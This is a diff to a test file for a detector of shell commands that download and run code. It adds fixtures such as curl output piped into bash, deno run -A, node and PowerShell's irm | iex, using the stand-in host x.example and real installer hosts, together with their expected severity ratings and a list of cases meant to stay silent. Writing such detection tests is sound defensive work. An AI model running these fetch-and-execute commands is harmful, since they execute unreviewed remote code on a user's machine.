@@ -53,7 +53,7 @@ describe("code that comes from the network and runs", () => {
     [
       "into a program that takes it from standard input",
       block(
-        "curl -s https://x.example/a | deno run -",
+        "curl -s https://x.example/a | deno run -A -",
         "curl -s https://x.example/a | bash -o pipefail",
         "curl -s https://x.example/a | source /dev/stdin",
         "curl -s https://x.example/a | osascript -l JavaScript",
@@ -75,6 +75,14 @@ describe("code that comes from the network and runs", () => {
       "without a scheme, from where a known vendor keeps its installer",
       block("curl -fsSL get.docker.com | sh"),
       ["2 medium pipes a download from get.docker.com into sh"],
+    ],
+    [
+      "without a scheme, in PowerShell",
+      block('powershell -c "irm bun.sh/install.ps1 | iex"', "irm x.example/a.ps1 | iex"),
+      [
+        "2 medium runs a download from bun.sh in PowerShell",
+        "3 high runs a download from x.example in PowerShell",
+      ],
     ],
     [
       "without a scheme, next to the name of a file",
@@ -184,6 +192,11 @@ describe("silent:", () => {
     ["data for a program of Deno", block("curl -s https://x.example/a | deno run tools/format")],
     ["data for a script without an ending", block("curl -s https://x.example/a | bash bin/count")],
     ["a request that eval makes", block('CODE=$(cat a | eval curl -s "$URL" | eval cat)')],
+    [
+      "a request of eval that is told to be silent",
+      block('A=$(eval curl -s -d "$(curl -s "$U")" "$V")'),
+    ],
+    ["data that a script is told to read", block("curl -s https://x.example/a | node bin/show -")],
     ["data for a decoder's script", block("base64 -d a.txt | node bin/show")],
     ["data for a program", block("curl -s https://x.example/a | node scripts/chart.mjs --dark")],
     [
